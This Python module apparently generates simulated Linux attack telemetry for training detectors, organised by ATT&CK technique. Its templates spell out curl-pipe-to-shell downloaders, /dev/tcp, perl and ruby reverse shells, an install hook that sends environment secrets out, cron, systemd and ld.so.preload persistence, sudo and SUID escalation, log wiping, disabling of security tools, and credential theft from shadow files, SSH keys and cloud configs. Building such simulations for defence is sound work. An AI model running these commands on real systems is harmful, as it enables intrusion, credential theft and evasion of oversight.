"""Simulated Linux attacks, part 1: initial access, execution, persistence, privilege escalation,
defense evasion and credential access.

Behaviour follows the public descriptions of the registered ATT&CK technique ids (ATT&CK Linux
matrix, Atomic Red Team Linux tests, GTFOBins-style abuse of standard tools); every name, path,
address and order is randomised.
"""

from __future__ import annotations

from pipeline.training.sim.catalog import Registry
from pipeline.training.sim.session import Session, _quote, linux_host
from schemas.events import Platform

REG = Registry(Platform.LINUX)
add = REG.add
SHELLS = ("/bin/sh", "/bin/bash", "/usr/bin/bash", "/usr/bin/dash")


def bin_(name: str, s: Session) -> str:
    """Path of a standard tool (random /bin vs /usr/bin)."""
    return s.r.pick((f"/usr/bin/{name}", f"/bin/{name}")) if name not in ("sshd", "useradd", "usermod", "crond", "iptables", "setenforce", "visudo") else f"/usr/sbin/{name}"


def drop_path(s: Session) -> str:
    """A random hidden or plain file in a writable folder."""
    r = s.r
    return f"{s.wdir()}/{r.pick(('.', '')) }{r.pick((r.token(3, 8), r.word(), 'kworker', 'systemd-' + r.word(), r.hexstr(8)))}"


def fetch(s: Session, dest: str, *, run: bool = True) -> None:
    """Download a payload (curl/wget), make it executable and optionally run it (T1105)."""
    b, r = s.b, s.r
    url = f"http://{r.pick((r.ext_ip(), r.domain()))}{r.pick(('', ':' + str(r.num(8000, 9999))))}/{r.pick((r.token(), r.name('sh'), r.name('')))}"
    tool = r.pick(("curl", "wget"))
    cmd = f"curl -fsSL {r.pick(('-k ', ''))}{url} -o {dest}" if tool == "curl" else f"wget -q {url} -O {dest}"
    p = s.run(bin_(tool, s), cmd, via_shell=0.3)
    b.dns(p, url.split("/")[2].split(":")[0])
    b.connect(p, r.ext_ip(), int(url.split("/")[2].split(":")[1]) if ":" in url.split("/")[2] else 80)
    b.create(p, dest)
    b.write(p, dest, r.num(10_000, 9_000_000))
    s.run(bin_("chmod", s), f"chmod {r.pick(('+x', '755', '777', 'u+x'))} {dest}")
    if run:
        x = s.run(dest, f"{dest}{r.pick(('', ' -d', ' &', ' --daemon'))}")
        b.connect(x, r.ext_ip(), r.pick((443, 80, 8080, 4444, 3333)))


# --- InitialAccess -----------------------------------------------------------------------------

@add("T1190", "InitialAccess", entry=linux_host)
def exploit_web_app(s: Session) -> None:
    """A web/app server (nginx+php, Tomcat/Java, Node, Confluence-like) runs a shell command for the attacker."""
    b, r = s.b, s.r
    user = r.pick(("www-data", "tomcat", "nobody", "node", "confluence", "apache"))
    server = b.existing(r.pick(("/usr/sbin/php-fpm8.1", "/usr/bin/java", "/usr/sbin/apache2", "/usr/bin/node", "/usr/sbin/httpd", "/opt/atlassian/confluence/jre/bin/java")), user=user)
    sh = r.pick(SHELLS)
    payload = r.pick((f"curl -s http://{r.ext_ip()}/{r.token()}.sh | sh", f"wget -qO- http://{r.domain()}/{r.token()} | bash",
                      "id", "uname -a; id", f"bash -i >& /dev/tcp/{r.ext_ip()}/{r.pick((4444, 443, 9001))} 0>&1",
                      f"echo {r.b64(40, 200)} | base64 -d | bash"))
    shell = s.run(sh, f"{sh.rsplit('/', 1)[1]} -c {_quote(payload)}", parent=server, user=user)
    sess = Session(b, r, user, shell, s.dirs)
    for cmd in r.sample(("id", "uname -a", "whoami", "cat /etc/passwd", "hostname"), r.num(0, 3)):
        sess.run(bin_(cmd.split()[0], s), cmd)
    if "curl" in payload or "wget" in payload or r.chance(0.4):
        fetch(sess, f"/tmp/{r.pick(('.', ''))}{r.token()}")
    if r.chance(0.3) and server.image.endswith(("php-fpm8.1", "apache2", "httpd")):
        b.write(server, f"/var/www/html/{r.pick(('uploads/', 'wp-content/uploads/', ''))}{r.name('php')}", r.num(100, 5000))


@add("T1133", "InitialAccess", entry=linux_host)
def ssh_stolen_key_login(s: Session) -> None:
    """A login over SSH (stolen key/password) immediately fetches and runs a payload from a public host."""
    b, r = s.b, s.r
    user = r.pick(("root", "ubuntu", "admin", "test", "oracle", "pi"))
    sshd = b.existing("/usr/sbin/sshd", user="root")
    priv = s.run("/usr/sbin/sshd", f"sshd: {user} [priv]", parent=sshd, user="root", attack=False)
    b.connect(priv, r.ext_ip(), r.num(30000, 65000), outbound=False)
    sh = s.run("/bin/bash", f"bash -c {_quote(r.pick(('uname -a;nproc;cat /proc/cpuinfo', 'cd /tmp; wget http://' + r.ext_ip() + '/x; chmod +x x; ./x', 'echo ' + r.b64(40, 120) + '|base64 -d|sh')))}", parent=priv, user=user)
    sess = Session(b, r, user, sh, s.dirs)
    fetch(sess, f"/tmp/{r.token()}")
    if r.chance(0.5):
        k = sess.run(bin_("bash", s), f"bash -c {_quote('echo ssh-rsa ' + r.b64(200, 300) + ' >> ~/.ssh/authorized_keys')}")
        b.write(k, f"/{'root' if user == 'root' else 'home/' + user}/.ssh/authorized_keys", 400)


@add("T1195.002", "InitialAccess", entry=linux_host)
def supply_chain_install_hook(s: Session) -> None:
    """A package install hook (npm postinstall, setup.py) runs a downloader and exfiltrates env secrets."""
    b, r = s.b, s.r
    user = r.pick(("dev", "ci", "runner", "ubuntu", "jenkins"))
    ci = b.existing(r.pick(("/usr/bin/bash", "/opt/actions-runner/bin/Runner.Worker", "/usr/bin/java")), user=user)
    pm = r.pick((("/usr/bin/node", "npm install"), ("/usr/bin/python3", "python3 -m pip install -r requirements.txt")))
    mgr = s.run(pm[0], pm[1], parent=ci, user=user)
    hook = s.run("/bin/sh", f"sh -c {_quote(r.pick(('node postinstall.js', 'python3 setup.py install', 'node ./scripts/' + r.token() + '.js')))}", parent=mgr, user=user)
    js = 'require("child_process").exec("curl -s http://' + r.domain() + '/x|sh")'
    py = 'import os,urllib.request;urllib.request.urlopen("http://' + r.domain() + '/c",data=str(os.environ).encode())'
    code = f"node -e {_quote(js)}" if pm[0].endswith("node") else f"python3 -c {_quote(py)}"
    interp = s.run(pm[0], code, parent=hook, user=user)
    b.connect(interp, r.ext_ip(), r.pick((80, 443, 8080)))
    sess = Session(b, r, user, interp, s.dirs)
    if r.chance(0.6):
        fetch(sess, f"/tmp/.{r.token()}")
    else:
        sess.cmd(f"env | curl -s -X POST --data-binary @- http://{r.domain()}/{r.token()}")


# --- Execution ---------------------------------------------------------------------------------

@add("T1059.004", "Execution")
def shell_payload(s: Session) -> None:
    """Encoded or piped shell payloads: base64 -d | bash, curl | sh, bash -c with eval."""
    b, r = s.b, s.r
    cmd = r.pick((f"echo {r.b64()} | base64 -d | bash", f"curl -fsSL http://{r.pick((r.ext_ip(), r.domain()))}/{r.name('sh')} | bash",
                  f"wget -qO- http://{r.ext_ip()}/{r.token()} | sh", f"eval \"$(echo {r.b64(40, 200)} | base64 --decode)\"",
                  f"bash -c \"$(curl -s http://{r.domain()}/i)\""))
    p = s.cmd(cmd)
    b.connect(p, r.ext_ip(), r.pick((80, 443)))
    if r.chance(0.6):
        Session(b, r, s.user, p, s.dirs, s.malicious).run(bin_("bash", s), "bash")


@add("T1059.006", "Execution")
def interpreter_one_liner(s: Session) -> None:
    """python/perl/ruby one-liners spawn shells, decode payloads or open sockets."""
    b, r = s.b, s.r
    ip, port = r.ext_ip(), r.pick((4444, 443, 8080, 9001))
    image, cmd = r.pick((("/usr/bin/python3", "python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
                         ("/usr/bin/python3", f"python3 -c 'import base64,os;exec(base64.b64decode(\"{r.b64(60, 300)}\"))'"),
                         ("/usr/bin/perl", f"perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{exec(\"/bin/sh -i\");}};'"),
                         ("/usr/bin/ruby", f"ruby -rsocket -e'f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
                         ("/usr/bin/python3", f"python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://{r.domain()}/{r.token()}\").read())'")))
    p = s.run(image, cmd)
    if "socket" in cmd.lower() or "urlopen" in cmd:
        b.connect(p, ip, port)
    s.run("/bin/sh", "/bin/sh -i", parent=p)


@add("T1053.003", "Execution")
def cron_runs_payload(s: Session) -> None:
    """cron launches a payload from a writable folder every minute."""
    b, r = s.b, s.r
    cron = b.existing(r.pick(("/usr/sbin/cron", "/usr/sbin/crond")), user="root")
    child = s.run("/usr/sbin/cron", "/usr/sbin/CRON -f", parent=cron, attack=False)
    path = drop_path(s)
    sh = s.run("/bin/sh", f"/bin/sh -c {_quote(r.pick((path, path + ' >/dev/null 2>&1', 'curl -s http://' + r.domain() + '/u.sh | sh')))}", parent=child)
    x = s.run(path, path, parent=sh)
    b.connect(x, r.ext_ip(), r.pick((443, 80, 3333)))


# --- Persistence -------------------------------------------------------------------------------

@add("T1053.003", "Persistence")
def cron_persistence(s: Session) -> None:
    """A crontab entry or /etc/cron.d file re-launches a payload."""
    b, r = s.b, s.r
    payload = drop_path(s)
    line = f"{r.pick(('* * * * *', '*/5 * * * *', '@reboot', '0 * * * *'))} {r.pick((payload, 'curl -fsSL http://' + r.domain() + '/s|sh', payload + ' >/dev/null 2>&1'))}"
    if r.chance(0.5):
        p = s.cmd(f"(crontab -l 2>/dev/null; echo \"{line}\") | crontab -")
        sub = s.run(bin_("crontab", s), "crontab -", parent=p)
        b.write(sub, f"/var/spool/cron/crontabs/{s.user}", 200)
    else:
        target = r.pick((f"/etc/cron.d/{r.word()}", "/etc/crontab", f"/etc/cron.hourly/{r.word()}"))
        p = s.cmd(f"echo \"{line}\" >> {target}")
        b.write(p, target, 120)


@add("T1543.002", "Persistence")
def systemd_service(s: Session) -> None:
    """A systemd unit is written and enabled to start a payload at boot."""
    b, r = s.b, s.r
    name = r.pick((f"{r.word()}-{r.word()}", f"systemd-{r.word()}", r.token()))
    unit = r.pick((f"/etc/systemd/system/{name}.service", f"/lib/systemd/system/{name}.service", f"/home/{s.user}/.config/systemd/user/{name}.service"))
    payload = drop_path(s)
    p = s.cmd(f"printf '[Unit]\\nDescription={name}\\n[Service]\\nExecStart={payload}\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target' > {unit}")
    b.write(p, unit, 200)
    s.run(bin_("systemctl", s), "systemctl daemon-reload")
    s.run(bin_("systemctl", s), f"systemctl enable {r.pick(('--now ', ''))}{name}")
    init = b.existing("/usr/lib/systemd/systemd", user="root")
    x = s.run(payload, payload, parent=init, user="root")
    b.connect(x, r.ext_ip(), r.pick((443, 80, 8443)))


@add("T1098.004", "Persistence")
def ssh_authorized_keys(s: Session) -> None:
    """An attacker key is appended to authorized_keys (and sshd config loosened)."""
    b, r = s.b, s.r
    home = "/root" if s.user == "root" else f"/home/{s.user}"
    p = s.cmd(r.pick((f"mkdir -p {home}/.ssh; echo 'ssh-rsa {r.b64(200, 300)} {r.token()}' >> {home}/.ssh/authorized_keys",
                      f"echo ssh-ed25519 {r.b64(40, 50)} >> {home}/.ssh/authorized_keys; chmod 600 {home}/.ssh/authorized_keys")))
    b.write(p, f"{home}/.ssh/authorized_keys", 420)
    if r.chance(0.4):
        q = s.run(bin_("sed", s), "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config")
        b.write(q, "/etc/ssh/sshd_config", 3000)


@add("T1136.001", "Persistence")
def create_local_account(s: Session) -> None:
    """A local (often uid 0 or sudo-capable) account is created."""
    b, r = s.b, s.r
    user = r.pick((r.token(4, 8), "sysadmin", "backup1", "support", "admin"))
    s.run(bin_("useradd", s), r.pick((f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {user}", f"useradd -m -s /bin/bash {user}", f"useradd -G sudo {user}")), via_shell=0.3)
    p = s.cmd(r.pick((f"echo '{user}:{r.token(8, 12)}' | chpasswd", f"echo '{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers")))
    b.write(p, r.pick(("/etc/shadow", "/etc/sudoers")), 800)
    b.write(p, "/etc/passwd", 2000)


@add("T1546.004", "Persistence")
def shell_profile(s: Session) -> None:
    """A shell start-up file (.bashrc, /etc/profile.d) is made to launch a payload."""
    b, r = s.b, s.r
    home = "/root" if s.user == "root" else f"/home/{s.user}"
    target = r.pick((f"{home}/.bashrc", f"{home}/.profile", f"/etc/profile.d/{r.word()}.sh", "/etc/bash.bashrc"))
    p = s.cmd(f"echo '{r.pick(('nohup ' + drop_path(s) + ' >/dev/null 2>&1 &', 'curl -s http://' + r.domain() + '/r | bash &'))}' >> {target}")
    b.write(p, target, 80)


@add("T1574.006", "Persistence")
def ld_preload(s: Session) -> None:
    """A shared object is registered in /etc/ld.so.preload (userland rootkit style)."""
    b, r = s.b, s.r
    so = f"{r.pick(('/usr/lib', '/lib', '/usr/local/lib', '/tmp'))}/{r.pick(('lib', '.'))}{r.token()}.so"
    fetch(s, so, run=False)
    p = s.cmd(f"echo {so} > /etc/ld.so.preload")
    b.write(p, "/etc/ld.so.preload", 40)


# --- PrivilegeEscalation -----------------------------------------------------------------------

@add("T1548.001", "PrivilegeEscalation")
def suid_abuse(s: Session) -> None:
    """SUID binaries are hunted and abused (find -perm -4000, a setuid shell copy, GTFOBins)."""
    b, r = s.b, s.r
    s.run(bin_("find", s), r.pick(("find / -perm -4000 -type f 2>/dev/null", "find / -perm -u=s -type f 2>/dev/null", "find / -user root -perm -4000 -print 2>/dev/null")), via_shell=0.3)
    choice = r.rng.randrange(3)
    if choice == 0:
        copy = f"/tmp/.{r.token()}"
        p = s.cmd(f"cp /bin/bash {copy}; chmod u+s {copy}")
        b.create(p, copy)
        s.run(copy, f"{copy} -p", user="root")
    elif choice == 1:
        s.run(bin_("find", s), "find . -exec /bin/sh -p \\; -quit", user=s.user)
        s.run("/bin/sh", "/bin/sh -p", user="root")
    else:
        s.run(bin_("getcap", s), "getcap -r / 2>/dev/null")
        s.run("/usr/bin/python3", "python3 -c 'import os; os.setuid(0); os.system(\"/bin/bash\")'", user="root")


@add("T1548.003", "PrivilegeEscalation")
def sudo_abuse(s: Session) -> None:
    """sudo rights are enumerated and abused (sudo -l, sudo with a shell escape, sudoers edit)."""
    b, r = s.b, s.r
    s.run(bin_("sudo", s), "sudo -l")
    esc = r.pick(("sudo su -", "sudo -i", "sudo /bin/bash", "sudo vim -c ':!/bin/sh'", "sudo find . -exec /bin/sh \\; -quit",
                  "sudo awk 'BEGIN {system(\"/bin/sh\")}'", "sudo -u#-1 /bin/bash"))
    p = s.run(bin_("sudo", s), esc)
    sh = s.run("/bin/bash", "/bin/bash", parent=p, user="root")
    if r.chance(0.5):
        w = Session(b, r, "root", sh, s.dirs).cmd(f"echo '{s.user} ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers")
        b.write(w, "/etc/sudoers", 900)


@add("T1068", "PrivilegeEscalation")
def kernel_or_pkexec_exploit(s: Session) -> None:
    """A local exploit is fetched/compiled and run (pkexec CVE-2021-4034, Dirty Pipe style) and yields root."""
    b, r = s.b, s.r
    src = f"/tmp/{r.token()}.c"
    fetch(s, src, run=False)
    out = f"/tmp/{r.token()}"
    cc = s.run("/usr/bin/gcc", f"gcc {src} -o {out}{r.pick(('', ' -static', ' -lpthread'))}")
    b.write(cc, out)
    x = s.run(out, out)
    if r.chance(0.5):
        x = s.run("/usr/bin/pkexec", "pkexec", parent=x)
    s.run("/bin/sh", "/bin/sh", parent=x, user="root")


@add("T1611", "PrivilegeEscalation")
def container_escape(s: Session) -> None:
    """Container breakout via a privileged container mounting the host root (docker run -v /:/mnt chroot)."""
    r = s.r
    p = s.run("/usr/bin/docker", r.pick(("docker run -v /:/mnt --rm -it alpine chroot /mnt sh", "docker run --privileged --pid=host -it alpine nsenter -t 1 -m -u -n -i sh")))
    del p
    s.run("/usr/bin/nsenter", "nsenter -t 1 -m -u -n -i sh", user="root")
    s.run("/bin/sh", "sh", user="root")


# --- DefenseEvasion ----------------------------------------------------------------------------

@add("T1070.003", "DefenseEvasion")
def clear_history_and_logs(s: Session) -> None:
    """Shell history and system logs are wiped or truncated."""
    b, r = s.b, s.r
    for cmd in r.sample(("history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm -f ~/.bash_history", "cat /dev/null > /var/log/auth.log",
                         "truncate -s 0 /var/log/syslog", "rm -rf /var/log/*.gz", "echo > /var/log/wtmp", "journalctl --vacuum-time=1s", "shred -u ~/.bash_history"), r.num(2, 5)):
        p = s.cmd(cmd)
        if "/var/log" in cmd:
            b.write(p, r.pick(("/var/log/auth.log", "/var/log/syslog", "/var/log/wtmp")), 0)
        if "rm" in cmd or "shred" in cmd:
            b.delete(p, r.pick((f"/home/{s.user}/.bash_history", "/root/.bash_history", "/var/log/syslog.2.gz")))


@add("T1562.001", "DefenseEvasion")
def disable_security_tools(s: Session) -> None:
    """Audit, SELinux/AppArmor, firewall or EDR agents are stopped/disabled."""
    r = s.r
    for cmd in r.sample(("setenforce 0", "systemctl stop auditd", "systemctl disable --now apparmor", "service auditd stop", "ufw disable",
                         "iptables -F", "systemctl stop falcon-sensor", "pkill -9 -f osqueryd", "systemctl mask auditd", "auditctl -e 0"), r.num(1, 4)):
        s.run(bin_(cmd.split()[0], s), cmd, via_shell=0.3)


@add("T1222.002", "DefenseEvasion")
def hide_and_timestomp(s: Session) -> None:
    """A payload is hidden: dot-names, immutable bit, timestamp copied from a system file, self-deletion."""
    b, r = s.b, s.r
    path = f"{s.wdir()}/.{r.token()}"
    fetch(s, path, run=False)
    s.run(bin_("touch", s), f"touch -r /bin/ls {path}")
    if r.chance(0.5):
        s.run(bin_("chattr", s), f"chattr +i {path}")
    x = s.run(path, f"{path}")
    if r.chance(0.6):
        d = s.run(bin_("rm", s), f"rm -f {path}", parent=x)
        b.delete(d, path)


@add("T1140", "DefenseEvasion")
def decode_payload(s: Session) -> None:
    """A payload is decoded (base64/xxd/openssl) into a writable dir and executed."""
    b, r = s.b, s.r
    out = drop_path(s)
    p = s.cmd(r.pick((f"echo {r.b64(200, 600)} | base64 -d > {out}", f"base64 --decode {s.wdir()}/{r.token()}.txt > {out}",
                      f"xxd -r -p {s.wdir()}/{r.token()} {out}", f"openssl enc -d -aes-256-cbc -in {s.wdir()}/{r.token()} -out {out} -k {r.token()}")))
    b.write(p, out)
    s.run(bin_("chmod", s), f"chmod +x {out}")
    s.run(out, out)


@add("T1036.005", "DefenseEvasion")
def masquerade_kernel_thread(s: Session) -> None:
    """A payload runs from /tmp or /dev/shm with a kernel-thread or daemon name."""
    b, r = s.b, s.r
    name = r.pick(("kworker/0:1", "[kthreadd]", "sshd", "systemd-journald", "dbus-daemon", "crond", "rsyslogd"))
    path = f"{r.pick(('/dev/shm', '/tmp', '/var/tmp'))}/{name.strip('[]').replace('/', '_')}"
    fetch(s, path, run=False)
    x = s.run(path, name if r.chance(0.6) else path)
    b.connect(x, r.ext_ip(), r.pick((443, 80, 53, 8443)))


# --- CredentialAccess --------------------------------------------------------------------------

@add("T1003.008", "CredentialAccess")
def shadow_dump(s: Session) -> None:
    """/etc/shadow and /etc/passwd are read/copied (unshadow for cracking)."""
    b, r = s.b, s.r
    out = f"{s.wdir()}/{r.token()}"
    cmd = r.pick((f"cat /etc/shadow > {out}", f"cp /etc/shadow {out}", f"unshadow /etc/passwd /etc/shadow > {out}", "cat /etc/shadow", f"tar czf {out}.tgz /etc/passwd /etc/shadow"))
    p = s.cmd(cmd) if ">" in cmd else s.run(bin_(cmd.split()[0], s), cmd)
    b.write(p, out)


@add("T1552.004", "CredentialAccess")
def private_keys_and_cloud_creds(s: Session) -> None:
    """SSH private keys and cloud/API credentials are searched and collected."""
    b, r = s.b, s.r
    out = f"{s.wdir()}/{r.token()}"
    for cmd in r.sample(("find / -name id_rsa 2>/dev/null", "find / -name '*.pem' -o -name '*.key' 2>/dev/null", "cat ~/.aws/credentials",
                         "cat /root/.ssh/id_rsa", f"grep -rni 'password' /etc /var/www 2>/dev/null > {out}", "cat ~/.kube/config", "env | grep -i key",
                         "cat ~/.docker/config.json", "grep -r AKIA /home 2>/dev/null"), r.num(2, 5)):
        p = s.cmd(cmd)
        if ">" in cmd:
            b.write(p, out)


@add("T1003.007", "CredentialAccess")
def proc_memory_scrape(s: Session) -> None:
    """Process memory of sshd/login/gnome-keyring is dumped to harvest passwords (mimipenguin/gcore style)."""
    b, r = s.b, s.r
    pid = r.num(300, 90000)
    cmd = r.pick((f"gcore -o {s.wdir()}/{r.token()} {pid}", f"dd if=/proc/{pid}/mem of={s.wdir()}/{r.token()} bs=1 skip=$((0x7f0000))",
                  "python3 mimipenguin.py", f"grep -a 'password' /proc/{pid}/mem", f"strings /proc/{pid}/environ"))
    p = s.run(bin_(cmd.split()[0], s) if not cmd.startswith("python3") else "/usr/bin/python3", cmd, user="root")
    b.write(p, f"{s.wdir()}/{r.token()}.{pid}", r.num(10**6, 10**8))


@add("T1110.001", "CredentialAccess")
def ssh_brute_force(s: Session) -> None:
    """Password guessing against SSH on many hosts (hydra/medusa/sshpass loops)."""
    b, r = s.b, s.r
    tool = r.pick(("hydra", "medusa", "ncrack", "sshpass"))
    p = s.run(bin_(tool, s), r.pick((f"hydra -L users.txt -P pass.txt ssh://{r.int_ip()}", f"medusa -h {r.int_ip()} -U u.txt -P p.txt -M ssh",
                                     f"ncrack -p 22 {r.int_ip()}/24", f"sshpass -p {r.token()} ssh -o StrictHostKeyChecking=no root@{r.int_ip()} id")))
    hosts = [r.int_ip() for _ in range(r.num(1, 10))]
    for _ in range(r.num(20, 80)):
        b.connect(p, r.pick(hosts), 22)
